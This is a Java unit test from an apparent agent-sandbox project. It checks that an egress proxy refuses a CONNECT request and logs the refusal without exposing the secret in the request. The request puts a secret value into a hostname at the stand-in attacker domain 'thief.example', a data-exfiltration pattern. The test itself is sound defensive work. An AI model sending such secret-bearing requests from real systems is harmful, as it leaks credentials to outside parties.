package drover.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import drover.egress.Egress;
import drover.egress.EgressDoor;
import drover.ledger.EventRecord;
import drover.ledger.EventType;
import drover.machine.Network;
import drover.runtime.AgentRuntime;
import java.io.IOException;
import java.net.InetAddress;
import java.net.UnixDomainSocketAddress;
import java.net.UnknownHostException;
import java.nio.ByteBuffer;
import java.nio.channels.Channels;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Where a run wanted to go stands in the ledger when its door is closed. */
@Timeout(60)
class EgressRecordTest {

  @Test
  void a_refusal_is_an_event_of_the_run_and_betrays_no_secret(@TempDir Path folder)
      throws IOException {
    try (BeanBench bench = BeanBench.in(folder);
        Egress egress =
            new Egress(bench.settings(""), new NothingButPrivate(), bench.journal::tell)) {
      try (EgressDoor door =
          egress.open(bench.run.claim(), "publisher", AgentRuntime.CLAUDE, folder)) {
        String name = BeanBench.SECRET + ".thief.example:443";
        assertThat(ask(door, "CONNECT " + name + " HTTP/1.1\r\n\r\n")).startsWith("HTTP/1.1 403 ");
      }

      List<EventRecord> events = bench.ledger.read().events().after(bench.run.id(), 0, 100);
      assertThat(events)
          .filteredOn(event -> event.type() == EventType.NOTICE)
          .extracting(EventRecord::json)
          .singleElement()
          .asString()
          .contains("network: refused ", ".thief.example:443: its address 10.0.0.5 is private")
          .doesNotContain(BeanBench.SECRET);
    }
  }

  private static String ask(EgressDoor door, String request) throws IOException {
    try (SocketChannel guest = SocketChannel.open(UnixDomainSocketAddress.of(door.socket()))) {
      guest.write(ByteBuffer.wrap(request.getBytes(StandardCharsets.US_ASCII)));
      return new String(Channels.newInputStream(guest).readAllBytes(), StandardCharsets.ISO_8859_1);
    }
  }

  private static final class NothingButPrivate implements Network {
    @Override
    public List<InetAddress> addresses(String name) throws UnknownHostException {
      return List.of(InetAddress.getByName("10.0.0.5"));
    }

    @Override
    public boolean isOwn(InetAddress address) {
      return false;
    }
  }
}
